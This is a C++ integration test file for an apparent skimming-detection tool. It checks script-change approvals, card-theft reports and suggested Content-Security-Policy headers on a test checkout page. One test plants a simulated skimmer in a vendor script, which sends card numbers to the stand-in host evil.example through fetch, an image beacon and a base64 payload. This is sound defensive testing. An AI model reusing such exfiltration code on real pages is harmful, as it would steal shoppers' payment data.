#include <fstream>
#include <string>
#include <utility>
#include <vector>

#include "absl/strings/escaping.h"
#include "absl/strings/str_cat.h"
#include "absl/strings/str_replace.h"
#include "absl/strings/str_split.h"
#include "gmock/gmock.h"
#include "gtest/gtest.h"
#include "tests/integration/support/browser_site.h"
#include "tests/integration/support/cards.h"
#include "tests/integration/support/deployment.h"
#include "tests/support/child_process.h"
#include "tests/support/daemon.h"

namespace skimwatch::integration {
namespace {

using ::testing::HasSubstr;
using ::testing::IsEmpty;
using ::testing::Not;
using testing::WaitUntil;
using Change = v1::ScriptChange;

// Real shoppers: nginx that ends TLS with the files of deploy/browser-reports/, Chromium, the agent
// and the collector.
class BrowserReports : public ::testing::Test {
 protected:
  void SetUp() override {
    if (!BrowserSite::HasChromium()) GTEST_SKIP() << "needs chromium";
    ASSERT_NO_FATAL_FAILURE(deployment_.StartCollector());
    deployment_.agent_yaml = absl::StrCat(
        "sources: { browser_reports: [{ listen: \"unix:", socket_,
        "\", browsers_min: 1, learn_hours: 0, restore_after_seconds: 1, fold_window_seconds: 1 }] "
        "}\nscan: { fold_window_seconds: 1 }\n");
    ASSERT_NO_FATAL_FAILURE(deployment_.StartAgentAndWait());
    ASSERT_NO_FATAL_FAILURE(site_.Start(socket_));
  }

  // A script that says to the shop that it ran.
  static std::string Ran(const std::string& name) {
    return absl::StrCat("new Image().src = '/ran?", name, "'; fetch('/ran/", name,
                        "').catch(() => {});\n");
  }

  void WriteCheckout(const std::string& more = "") {
    site_.WriteShop(
        "checkout.html",
        absl::StrCat("<!doctype html><html><head>\n<script src=\"", site_.Origin("vendor.example"),
                     "/chat.js\" crossorigin=\"anonymous\"></script>\n", more,
                     "</head><body>pay</body></html>\n"));
  }
  std::string Checkout() const { return site_.Origin("shop.example") + "/checkout.html"; }
  std::string ScriptName(const std::string& file) const {
    return absl::StrCat(Checkout(), "#src=", site_.Origin("vendor.example"), "/", file);
  }

  // The changes of a script that are stored, oldest first.
  std::vector<v1::Finding> Changes(const std::string& file) {
    std::vector<v1::Finding> changes;
    for (const v1::StoredFinding& stored : deployment_.Findings()) {
      if (stored.finding().script_change().script() == ScriptName(file)) {
        changes.push_back(stored.finding());
      }
    }
    return changes;
  }
  bool WaitForChanges(const std::string& file, size_t count) {
    return WaitUntil([&] { return Changes(file).size() >= count; }, absl::Seconds(60));
  }

  // What sha256sum says of a file of the vendor.
  std::string Sha256Of(const std::string& file) const {
    const testing::Result sum =
        testing::RunProgram({.command = {"/usr/bin/sha256sum",
                                         absl::StrCat(deployment_.site_folder(), "/vendor/", file)},
                             .environment = {}});
    EXPECT_EQ(sum.code, 0) << sum.err;
    return sum.out.substr(0, 64);
  }
  void Approve(const std::string& file) {
    const testing::Result approved =
        deployment_.Ctl({"scripts", "approve", ScriptName(file), Sha256Of(file), "--justification",
                         "read by the test"});
    ASSERT_EQ(approved.code, 0) << approved.err;
  }
  static std::string Hash(const v1::Finding& change) {
    return absl::BytesToHexString(change.script_change().current().sha256());
  }
  std::vector<v1::Exposure> OpenScriptExposures() {
    std::vector<v1::Exposure> open;
    for (const v1::Exposure& exposure : deployment_.Exposures()) {
      if (exposure.kind() == v1::FINDING_KIND_SCRIPT_CHANGE &&
          exposure.state() == v1::Exposure::STATE_OPEN) {
        open.push_back(exposure);
      }
    }
    return open;
  }

  Deployment deployment_;
  BrowserSite site_{deployment_.site_folder()};
  const std::string socket_ = deployment_.root() + "/reports.sock";
};

TEST_F(BrowserReports, FollowTheVendorsScriptFromApprovalToChangeAndBack) {
  site_.WriteVendor("chat.js", "window.chat = 1;\n");
  WriteCheckout();
  {
    const Shopper shopper(site_, Checkout());
    ASSERT_TRUE(WaitForChanges("chat.js", 1)) << deployment_.agent().Log();
  }
  v1::Finding change = Changes("chat.js")[0];
  EXPECT_EQ(change.script_change().change(), Change::CHANGE_ADDED);
  EXPECT_EQ(change.provenance().source(), v1::SOURCE_KIND_BROWSER_REPORT);
  EXPECT_EQ(Hash(change), Sha256Of("chat.js"));
  ASSERT_NO_FATAL_FAILURE(Approve("chat.js"));
  EXPECT_THAT(OpenScriptExposures(), IsEmpty());
  // The agent has the approval.
  const double version = deployment_.AgentMetric("skimwatch_policy_version");
  EXPECT_TRUE(WaitUntil([&] {
    return deployment_.AgentMetric("skimwatch_policy_version") > version ||
           deployment_.AgentMetric(absl::StrCat(
               "skimwatch_browser_unapproved_scripts{listen=\"unix:", socket_, "\"}")) == 0;
  }));

  site_.WriteVendor("chat.js", "window.chat = 1; /* and a skimmer */\n");
  {
    const Shopper shopper(site_, Checkout());
    ASSERT_TRUE(WaitForChanges("chat.js", 2)) << deployment_.agent().Log();
  }
  change = Changes("chat.js")[1];
  EXPECT_EQ(change.script_change().change(), Change::CHANGE_CHANGED);
  EXPECT_EQ(change.severity(), v1::SEVERITY_HIGH);
  EXPECT_EQ(Hash(change), Sha256Of("chat.js"));
  ASSERT_EQ(OpenScriptExposures().size(), 1);
  EXPECT_EQ(OpenScriptExposures()[0].channel(), ScriptName("chat.js"));

  site_.WriteVendor("chat.js", "window.chat = 1;\n");
  EXPECT_TRUE(WaitUntil(
      [&] {
        const Shopper shopper(site_, Checkout());
        return WaitUntil([&] { return Changes("chat.js").size() >= 3; }, absl::Seconds(5));
      },
      absl::Seconds(60)));
  EXPECT_EQ(Changes("chat.js")[2].script_change().change(), Change::CHANGE_RESTORED);
  EXPECT_TRUE(WaitUntil([&] { return OpenScriptExposures().empty(); }));
}

TEST_F(BrowserReports, ShowTheCardThatWasBeingStolen) {
  enum Planted : size_t { kQuery, kBase64, kPath, kCount };
  site_.WriteVendor(
      "chat.js",
      absl::StrCat(
          "const evil = '", site_.Origin("evil.example"), "/';\n", "fetch(evil + 'c?card=",
          CardNumber(kQuery), "').catch(() => {});\n", "new Image().src = evil + 'p.gif?d=' + '",
          absl::WebSafeBase64Escape(absl::StrCat("{\"card\":\"", CardNumber(kBase64), "\"}")),
          "';\n", "fetch(evil + 'card/", CardNumber(kPath), "/x').catch(() => {});\n"));
  WriteCheckout();
  const Shopper shopper(site_, Checkout());
  ASSERT_TRUE(deployment_.WaitForCards(kCount)) << deployment_.agent().Log();
  const std::map<size_t, StoredCard> cards = deployment_.Cards(kCount);
  for (size_t card = 0; card < kCount; ++card) {
    const v1::Finding& finding = cards.at(card).findings.at(0).finding();
    EXPECT_EQ(finding.rule(), "card.browser_report") << card;
    EXPECT_EQ(finding.severity(), v1::SEVERITY_CRITICAL) << card;
    EXPECT_EQ(finding.provenance().source(), v1::SOURCE_KIND_BROWSER_REPORT);
    EXPECT_EQ(finding.provenance().direction(), v1::DIRECTION_OUTBOUND_REQUEST);
    EXPECT_EQ(finding.provenance().host(), "evil.example");
    EXPECT_THAT(finding.destination(), HasSubstr("evil.example:"));
    EXPECT_EQ(finding.provenance().referrer(), Checkout());
    EXPECT_EQ(finding.provenance().part(), "blocked_url");
  }
  // The violations are told as well, without what the addresses held.
  EXPECT_TRUE(WaitUntil([&] {
    size_t violations = 0;
    for (const v1::StoredFinding& stored : deployment_.Findings()) {
      violations += stored.finding().has_browser_report() ? 1 : 0;
    }
    return violations >= 3;
  }));
  for (const std::vector<std::string>& command :
       {std::vector<std::string>{"findings", "list", "--output", "json"},
        std::vector<std::string>{"exposures", "list"},
        std::vector<std::string>{"scripts", "list"}}) {
    const testing::Result shown = deployment_.Ctl(command);
    EXPECT_EQ(shown.code, 0) << shown.err;
    EXPECT_THAT(CardsIn(shown.out + shown.err, kCount), IsEmpty());
  }
  EXPECT_EQ(deployment_.StopAgent(SIGTERM), 0);
  deployment_.ExpectNoNumberKept(kCount);
}

TEST_F(BrowserReports, FitTheHeadersThatAreSuggested) {
  // A page with two scripts of the vendor, one of which does not let itself be read.
  site_.WriteVendor("chat.js", Ran("chat"));
  site_.WriteVendor("stats.js", Ran("stats"));
  const std::string stats =
      absl::StrCat("<script src=\"", site_.Origin("vendor.example"), "/stats.js\"></script>\n");
  WriteCheckout(stats);
  {
    const Shopper shopper(site_, Checkout());
    ASSERT_TRUE(WaitForChanges("chat.js", 1)) << deployment_.agent().Log();
    ASSERT_TRUE(WaitForChanges("stats.js", 1)) << deployment_.agent().Log();
  }
  const v1::Finding by_address = Changes("stats.js")[0];
  EXPECT_EQ(by_address.script_change().facts(0).name(), "no_hash");
  ASSERT_NO_FATAL_FAILURE(Approve("chat.js"));
  ASSERT_EQ(deployment_
                .Ctl({"scripts", "approve", ScriptName("stats.js"), Hash(by_address),
                      "--justification", "read by the test"})
                .code,
            0);

  for (const bool strict : {false, true}) {
    std::vector<std::string> command = {"csp", "suggest", Checkout(), "--site", "shop"};
    if (strict) command.emplace_back("--strict");
    const testing::Result suggested = deployment_.Ctl(command);
    ASSERT_EQ(suggested.code, 0) << suggested.err;
    const std::vector<std::string> parts =
        absl::StrSplit(suggested.out, absl::MaxSplits("\n\n", 1));
    ASSERT_EQ(parts.size(), 2) << suggested.out;
    // The page as an operator would write it: with the element that was suggested, and a script
    // that nobody approved.
    site_.WriteVendor("added.js", Ran("added"));
    const std::string vendor = site_.Origin("vendor.example");
    EXPECT_THAT(parts[1], HasSubstr(absl::StrCat("src=\"", vendor, "/chat.js\"")));
    EXPECT_THAT(parts[1], HasSubstr("integrity=\"sha256-"));
    EXPECT_THAT(parts[1], Not(HasSubstr("stats.js")));
    site_.WriteShop(
        "checkout.html",
        absl::StrCat("<!doctype html><html><head>\n", parts[1], stats,
                     strict ? "" : "<script>fetch('/ran/inline')</script>\n", "<script src=\"",
                     vendor, "/added.js\"></script>\n", "</head><body>pay</body></html>\n"));
    std::string headers;
    for (const auto line : absl::StrSplit(parts[0], '\n', absl::SkipEmpty())) {
      const std::pair<std::string, std::string> header =
          absl::StrSplit(line, absl::MaxSplits(": ", 1));
      // What is only reported would hide whether the policy that is enforced reports.
      if (header.first == "Content-Security-Policy-Report-Only") continue;
      absl::StrAppend(&headers, "add_header ", header.first, " \"",
                      absl::StrReplaceAll(header.second, {{"\"", "\\\""}}), "\" always;\n");
    }
    ASSERT_NO_FATAL_FAILURE(site_.Start(socket_, headers));
    std::ofstream(deployment_.site_folder() + "/access.log", std::ios::trunc).flush();
    const size_t before = deployment_.Findings().size();
    const Shopper shopper(site_, Checkout());
    const auto ran = [&](const std::string& name) {
      return site_.Requests().find("/ran/" + name) != std::string::npos;
    };
    EXPECT_TRUE(WaitUntil([&] { return ran("chat") && ran("stats"); })) << suggested.out;
    // Reported, and not run.
    const auto is_reported = [&] {
      for (const v1::StoredFinding& stored : deployment_.Findings()) {
        const v1::BrowserReport& report = stored.finding().browser_report();
        if (report.blocked_url() == vendor + "/added.js" && report.type() == "csp-violation") {
          return true;
        }
      }
      return false;
    };
    EXPECT_TRUE(WaitUntil([&] { return deployment_.Findings().size() > before && is_reported(); }))
        << suggested.out;
    EXPECT_FALSE(ran("added"));
    EXPECT_FALSE(ran("inline"));

    // Other bytes at the approved address do not run either.
    site_.WriteVendor("chat.js", Ran("chat") + Ran("skimmer"));
    {
      std::ofstream(deployment_.site_folder() + "/access.log", std::ios::trunc).flush();
      const Shopper another(site_, Checkout());
      EXPECT_TRUE(WaitUntil([&] { return ran("stats"); }));
      EXPECT_FALSE(ran("skimmer"));
      EXPECT_FALSE(ran("chat"));
    }
    site_.WriteVendor("chat.js", Ran("chat"));
  }
}

}  // namespace
}  // namespace skimwatch::integration
